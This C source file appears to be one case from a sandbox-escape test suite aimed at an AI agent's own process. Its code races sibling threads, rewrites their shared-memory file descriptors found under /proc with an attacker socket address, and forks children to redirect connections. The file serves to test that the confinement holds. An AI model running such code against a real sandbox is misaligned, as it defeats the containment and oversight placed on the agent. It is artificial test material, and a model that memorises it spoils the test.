// escape: steals and uses what the thread that the agent makes has open, while it is there
// group: the agent itself
// policy: unix
// attempts: 2000
#include <dirent.h>

#include "unix.h"

static void* steal(void* unused) {
  static char page[16384];
  const struct name name = named(evil());
  for (size_t at = 0; at < sizeof page; at += 512) memcpy(page + at, &name.address, sizeof name.address);
  const int us = getpid();
  for (;;) {
    DIR* tasks = opendir("/proc/self/task");
    for (struct dirent* one; tasks != NULL && (one = readdir(tasks)) != NULL;) {
      const int task = atoi(one->d_name);
      if (task == 0 || task == us || task == (int)syscall(SYS_gettid)) continue;
      for (int number = 0; number < 24; number++) {
        char path[96], to[96] = "";
        snprintf(path, sizeof path, "/proc/self/task/%d/fd/%d", task, number);
        if (readlink(path, to, sizeof to - 1) < 0 || strstr(to, "tidewaiter") == NULL) continue;
        const int memory = open(path, O_RDWR);
        if (memory < 0) continue;
        pwrite(memory, page, sizeof page, 0);
        void* there = mmap(NULL, sizeof page, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
        if (there != MAP_FAILED) memcpy(there, page, sizeof page);
        fallocate(memory, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, sizeof page);
        ftruncate(memory, 0);
        close(memory);
      }
    }
    if (tasks != NULL) closedir(tasks);
  }
  return unused;
}

static void attack(void) {
  serve_all(SOCK_STREAM);
  connect_once(named(evil()));
  // New processes: each has the memory put into it.
  while (more()) {
    if (!in_child()) {
      arrived();
      continue;
    }
    thread(steal, NULL);
    for (int i = 0; i < 20; i++) connect_once(named(GOOD_SOCKET));
    _exit(0);
  }
}
